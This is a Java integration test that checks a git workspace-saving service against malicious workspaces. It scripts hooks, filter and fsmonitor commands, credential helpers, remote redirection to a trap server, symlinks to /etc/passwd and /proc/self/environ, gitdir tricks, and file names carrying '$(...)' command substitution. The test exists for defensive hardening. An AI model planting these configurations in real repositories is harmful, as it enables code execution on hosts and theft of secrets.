package codeblocking.system;

import static org.assertj.core.api.Assertions.assertThat;

import codeblocking.remote.Faults;
import codeblocking.remote.FaultyGitServer;
import codeblocking.system.kit.Api;
import codeblocking.system.kit.Command;
import codeblocking.system.kit.Containers;
import codeblocking.system.kit.Git;
import codeblocking.system.kit.TerminalClient;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * A workspace whose owner means harm: the save goes well, nothing of it runs on the host, nothing
 * of the host or of others gets into it, and no secret leaves.
 */
class HostileWorkspaceIT {

  private static final String TOKEN = "token-" + UUID.randomUUID();

  private final FaultyGitServer git = Shared.git();
  private final FaultyGitServer trap = Shared.evil();
  private final Api mal = Shared.server().as("mal");

  /** What is typed in the workspace before it is saved; {@code %s} words are replaced. */
  private record Evil(String name, List<String> lines, List<String> skipped, String normal) {
    static Evil of(String name, String... lines) {
      return new Evil(name, List.of(lines), List.of(), "normal");
    }

    Evil skipping(String... paths) {
      return new Evil(name, lines, List.of(paths), normal);
    }

    /** What {@code normal.txt} holds in the save. */
    Evil saving(String content) {
      return new Evil(name, lines, skipped, content);
    }
  }

  private static final List<Evil> WORKSPACES =
      List.of(
          Evil.of(
              "hooks",
              "for h in pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout"
                  + " reference-transaction post-index-change pre-auto-gc update post-update; do"
                  + " printf '#!/bin/sh\\ntouch MARKER\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done"),
          Evil.of(
              "hooks path",
              "mkdir -p evil; printf '#!/bin/sh\\ntouch MARKER\\n' > evil/pre-commit; cp evil/pre-commit evil/pre-push;"
                  + " chmod +x evil/*; git config core.hooksPath \"$PWD/evil\""),
          Evil.of(
              "filters",
              "git config filter.x.clean 'touch MARKER; cat'; git config filter.x.smudge 'touch MARKER; cat';"
                  + " git config filter.x.process 'touch MARKER'; git config filter.x.required true;"
                  + " git config diff.x.textconv 'touch MARKER'; git config merge.x.driver 'touch MARKER'",
              "echo '* filter=x diff=x merge=x' > .gitattributes"),
          Evil.of(
              "programs in the configuration",
              "git config core.fsmonitor 'touch MARKER'; git config core.sshCommand 'touch MARKER';"
                  + " git config credential.helper '!touch MARKER'; git config gpg.program 'touch MARKER';"
                  + " git config core.editor 'touch MARKER'; git config core.pager 'touch MARKER';"
                  + " git config core.askPass 'touch MARKER'; git config remote.origin.uploadpack 'touch MARKER;';"
                  + " git config remote.origin.receivepack 'touch MARKER;'; git config core.gitProxy 'touch MARKER';"
                  + " git config alias.status '!touch MARKER'; git config uploadpack.packObjectsHook 'touch MARKER'"),
          Evil.of(
              "another remote",
              "git config remote.origin.url EVIL; git config remote.origin.pushurl EVIL;"
                  + " git config remote.origin.push +refs/heads/*:refs/heads/*;"
                  + " git config url.EVIL.insteadOf GOOD; git config url.EVIL.pushInsteadOf GOOD;"
                  + " git config remote.pushDefault evil; git config remote.evil.url EVIL;"
                  + " git config http.proxy EVIL; git config http.extraHeader 'X-Evil: 1'"),
          Evil.of(
              "links to the host",
              "ln -s CANARY stolen.txt; ln -s /etc etc; ln -s CANARYDIR dir; ln -s ../../../../../../../../etc/passwd up;"
                  + " ln -s /proc/self/environ environ"),
          Evil.of("fifo", "mkfifo pipe; mkdir deep; mkfifo deep/pipe")
              .skipping("pipe", "deep/pipe"),
          Evil.of(
                  "fifos in git's place",
                  "rm -f .git/config .git/HEAD .git/index .gitignore; mkfifo .git/config .git/HEAD .git/index .gitignore")
              .skipping(".gitignore"),
          Evil.of("git as a file", "rm -rf .git; echo 'gitdir: CANARYDIR' > .git"),
          Evil.of("git as a link", "rm -rf .git; ln -s CANARYDIR .git"),
          Evil.of("no git", "rm -rf .git"),
          Evil.of("empty git", "rm -rf .git; mkdir .git"),
          Evil.of(
              "work tree elsewhere",
              "git config core.worktree CANARYDIR; git config core.bare true; echo CANARYDIR > .git/commondir"),
          Evil.of(
              "alternates",
              "mkdir -p .git/objects/info; echo CANARYDIR/objects > .git/objects/info/alternates"),
          Evil.of(
              "refs as links",
              "rm -rf .git/refs .git/logs; ln -s CANARYDIR .git/refs; ln -s CANARYDIR .git/logs"),
          Evil.of(
              "include",
              "git config include.path /dev/zero; git config --add include.path CANARY; git config core.attributesFile /dev/zero;"
                  + " git config core.excludesFile /dev/zero; git config core.repositoryFormatVersion 99; true"),
          Evil.of(
              "nested repository",
              "mkdir nested; cd nested; git init -q; echo inner > inner.txt; git add -A;"
                  + " git -c user.name=x -c user.email=x@example.com commit -qm x; cd ..; git config --unset x.y; true"),
          Evil.of(
              "odd names",
              "touch -- '-rf' '--help' ' ' 'a b' \"quote'\" '$(touch MARKER)' '`touch MARKER`' \"$(printf 'new\\nline')\""
                  + " \"$(printf 'bad\\377utf8')\" 'back\\slash' '*' '.gitmodules'; true",
              "mkdir -p 'GIT~1' .GIT; echo x > 'GIT~1/x'; echo x > .GIT/config"),
          Evil.of(
              "unreadable",
              "echo secret > shut.txt; chmod 000 shut.txt; mkdir shut; echo x > shut/in.txt; chmod 000 shut"),
          Evil.of(
              "locks",
              "touch .git/index.lock .git/HEAD.lock .git/config.lock .git/refs/heads/main.lock"),
          Evil.of(
              "broken",
              "echo garbage > .git/index; echo garbage > .git/HEAD; echo '[core' > .git/config; rm -rf .git/objects"),
          Evil.of(
              "merge under way",
              "echo 0000000000000000000000000000000000000001 > .git/MERGE_HEAD; echo '<<<<<<< HEAD' > conflict.txt"),
          Evil.of(
              "deep and many",
              "d=deep; for i in $(seq 1 60); do d=$d/d; done; mkdir -p $d; echo x > $d/x; mkdir many;"
                  + " for i in $(seq 1 300); do echo $i > many/$i; done"),
          Evil.of(
                  "hidden by flags",
                  "git add -A; git -c user.name=x -c user.email=x@example.com commit -qm flags;"
                      + " echo changed > normal.txt; git update-index --assume-unchanged normal.txt;"
                      + " git update-index --skip-worktree README.md; echo changed > README.md")
              .saving("changed"),
          Evil.of(
              "ignore rules that run forever",
              "printf 'a*a*a*a*a*a*a*a*a*a*b\\n' > .gitignore; touch aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac"));

  /** One workspace under attack, from its making to its saving. */
  private final class Attack {
    private final Evil evil;
    private final String name;
    private final String canary = "CANARY" + UUID.randomUUID();
    private final Path victim = canaryRepository(canary);
    private final Path marker = victim.resolveSibling(victim.getFileName() + "-marker");
    private String id = "";

    Attack(Evil evil) {
      this.evil = evil;
      this.name = "evil-" + evil.name().replaceAll("\\W", "-");
    }

    void launch() {
      trap.create(name);
      String url = git.create(name);
      Histories.small(url, 2000);
      id = mal.importProject(name, url);
      try (TerminalClient terminal = mal.attach(id)) {
        mal.awaitImported(id);
        terminal.run("echo normal > normal.txt");
        for (String line : evil.lines()) {
          terminal.run(
              line.replace("MARKER", marker.toString())
                  .replace("CANARYDIR", victim.toString())
                  .replace("CANARY", victim.resolve("secret.txt").toString())
                  .replace("EVIL", trap.url(name))
                  .replace("GOOD", url));
        }
      }
    }

    void assertHarmless() throws IOException {
      JsonNode save =
          mal.awaitSave(
              id,
              Duration.ofSeconds(60),
              each ->
                  each.path("state").asText().equals("saved")
                      && !each.path("trigger").asText().equals("snapshot"));
      Containers.awaitNone(id, Duration.ofSeconds(60));

      Git clone = Git.clone(git.url(name));
      String ref = "origin/" + save.path("ref").asText().replace("refs/heads/", "");
      assertThat(clone.run("show", ref + ":normal.txt")).isEqualTo(evil.normal());
      assertThat(clone.run("ls-tree", "-r", "--name-only", ref)).contains("data.bin");
      for (String path : evil.skipped()) {
        assertThat(save.path("files").path("skipped").toString()).contains("\"" + path + "\"");
      }
      assertThat(marker).as("executed on the host").doesNotExist();
      assertThat(trap.faults(name).requests()).as("the evil server").isEmpty();
      assertThat(git.faults(name).authorizations()).containsOnly(Faults.basicHeader("mal", TOKEN));
      assertThat(git.faults(name).pushes()).allMatch(Faults.Pushed::fastForward);
      assertThat(everyBlob(git.directory(name))).doesNotContain(canary);
      assertThat(Files.readString(victim.resolve("secret.txt"))).isEqualTo(canary);
      assertThat(Git.in(victim).run("log", "--all", "--format=%s")).isEqualTo("victim");
    }
  }

  @TestFactory
  Stream<DynamicTest> the_save_goes_well_and_nothing_gets_out_or_in() {
    mal.putCredential("127.0.0.1:" + git.port(), "mal", TOKEN);
    List<Attack> attacks = WORKSPACES.stream().map(Attack::new).toList();
    // Launched side by side: each would wait out the grace period of the one before.
    ExecutorService threads = Executors.newFixedThreadPool(3);
    try {
      List<Future<?>> launched = new ArrayList<>();
      attacks.forEach(attack -> launched.add(threads.submit(attack::launch)));
      return IntStream.range(0, attacks.size())
          .mapToObj(
              i ->
                  DynamicTest.dynamicTest(
                      attacks.get(i).evil.name(),
                      () -> {
                        Object unused = launched.get(i).get();
                        attacks.get(i).assertHarmless();
                      }));
    } finally {
      threads.shutdown();
    }
  }

  /** A repository of somebody else on the host, readable by all: only good manners protect it. */
  private Path canaryRepository(String canary) {
    try {
      Path directory = Files.createTempDirectory("victim-");
      Files.writeString(directory.resolve("secret.txt"), canary);
      Git victim = Git.in(directory);
      victim.run("init", "-q");
      victim.run("add", "-A");
      victim.run("commit", "-q", "-m", "victim");
      String unused = Command.of("chmod", "-R", "a+rX", directory.toString()).output();
      return directory;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String everyBlob(Path bare) {
    return Command.of(
            "sh",
            "-c",
            "git cat-file --batch-all-objects --batch-check='%(objectname) %(objecttype)' --unordered"
                + " | grep -E 'blob|commit' | cut -d' ' -f1 | git cat-file --batch | tr -d '\\000'")
        .in(bare)
        .output();
  }
}
